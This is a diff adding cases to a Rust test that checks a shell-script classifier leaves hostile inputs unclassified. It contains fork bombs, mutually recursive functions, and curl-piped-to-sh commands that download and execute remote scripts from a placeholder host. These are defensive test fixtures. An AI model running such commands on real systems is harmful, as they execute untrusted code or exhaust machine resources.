@@ -68,6 +68,18 @@ fn hostile_scripts_stay_unclassified() {
             ("fork bombs", many(":(){ :|:& };:\n")),
             ("fork bombs in each other", many(":(){ ")),
             (
+                "functions that call each other",
+                "f() { g \"$@\" \"$@\"; }\ng() { f \"$@\" \"$@\"; }\nf in house\n".to_owned(),
+            ),
+            (
+                "a function that fetches itself",
+                "sh2() { curl https://a/sh2.sh | sh \"$@\"; }\nsh2\n".to_owned(),
+            ),
+            (
+                "shells that fetch shells",
+                "curl https://a/sh | sh\ncurl https://a/bash.sh | bash\n".to_owned(),
+            ),
+            (
                 "control characters",
                 many("\u{1}\u{1b}[2J\u{7}\u{8}\u{7f} "),
             ),
